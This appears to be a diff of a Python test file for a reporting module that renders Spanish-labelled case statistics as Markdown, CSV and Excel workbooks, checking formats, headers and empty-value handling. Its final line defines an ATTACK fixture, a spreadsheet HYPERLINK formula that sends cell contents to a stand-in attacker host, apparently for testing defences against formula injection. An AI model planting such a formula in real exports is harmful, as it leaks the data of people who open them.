@@ -101,7 +101,7 @@ def large_tally() -> dict:
 
 
 def test_the_report_tables_name_their_rows_in_spanish_and_write_numbers_as_the_narrative():
-    from handlers.reporting.files import render_csv, render_markdown
+    from handlers.reporting.files import render_markdown
 
     text = render_markdown(t, large_tally())
     assert "| WhatsApp | 2,652 | 0 | 0 | 0 | 0 | 0 | 2,652 |" in text
@@ -112,8 +112,23 @@ def test_the_report_tables_name_their_rows_in_spanish_and_write_numbers_as_the_n
     assert "| Casos abiertos al cierre | 1,174 |" in text
     for raw in ("closed", "within_deadline", "resolved_yes", "jovenes", "sin_dato", "overdue"):
         assert f"| {raw} |" not in text
-    csv = render_csv(t, large_tally())
-    assert 'Plazos,Casos atendidos,"1,478"' in csv
+
+
+def test_the_csv_has_one_header_and_numbers_a_spreadsheet_reads_as_numbers():
+    import csv
+    import io
+
+    from handlers.reporting.files import render_csv, render_report
+
+    rows = list(csv.reader(io.StringIO(render_csv(t, large_tally()))))
+    assert rows[0] == ["tabla", "fila", "columna", "valor"]
+    assert all(len(row) == 4 for row in rows)
+    assert rows.count(rows[0]) == 1
+    assert ["Plazos", "Casos atendidos", "valor", "1478"] in rows
+    assert ["Plazos", "% dentro del plazo", "valor", "81.2"] in rows
+    assert ["Recibidos", "WhatsApp", "solicitud", "2652"] in rows
+    # A byte-order mark first, so that Excel on Windows reads "Martínez" as written.
+    assert render_report(t, large_tally(), "csv", None).startswith("\ufefftabla".encode())
 
 
 def test_the_spreadsheet_keeps_numbers_as_numbers_with_a_thousands_format():
@@ -129,6 +144,41 @@ def test_the_spreadsheet_keeps_numbers_as_numbers_with_a_thousands_format():
     assert rows["Casos atendidos"].number_format == "#,##0"
     assert rows["Mediana de resolución (días)"].value == 2.25
     assert rows["Mediana de resolución (días)"].number_format == "#,##0.0"
+    # A percentage the spreadsheet shows as one: 81.2 %.
+    assert rows["% dentro del plazo"].value == 0.812
+    assert rows["% dentro del plazo"].number_format == "0.0%"
+    assert all(cell.font.b for cell in book["Plazos"][1])
+    assert book["Plazos"].column_dimensions["A"].width > 20
+    summary = book["Resumen"]
+    assert summary["A3"].alignment.wrap_text and summary["A1"].font.b
+    assert len(summary._charts) == 1 and len(book["Recibidos"]._charts) == 0
+
+
+def test_a_figure_with_nothing_to_compute_reads_sin_dato_in_every_format():
+    import io
+
+    from openpyxl import load_workbook
+
+    from handlers.reporting.files import render_csv, render_markdown, xlsx_bytes
+
+    empty = large_tally()
+    empty["deadlines"].update(
+        closed=0, within_deadline=0, pct_within_deadline=None, median_resolution_days=None
+    )
+    assert "| % dentro del plazo | Sin dato |" in render_markdown(t, empty)
+    assert "Plazos,% dentro del plazo,valor,Sin dato" in render_csv(t, empty)
+    book = load_workbook(io.BytesIO(xlsx_bytes(t, empty)))
+    rows = {row[0]: row[1] for row in book["Plazos"].iter_rows(min_row=2, values_only=True)}
+    assert rows["% dentro del plazo"] == "Sin dato"
+
+
+def test_the_chart_title_names_the_period_and_the_institution():
+    from handlers.reporting.files import chart_title
+
+    tally = {**large_tally(), "institution": "Ministerio de Obras Públicas"}
+    assert chart_title(t, tally) == (
+        "Casos recibidos por canal y tipo, periodo 2026\nMinisterio de Obras Públicas"
+    )
 
 
 ATTACK = '=HYPERLINK("http://evil.example/?d="&A1,"ver")'
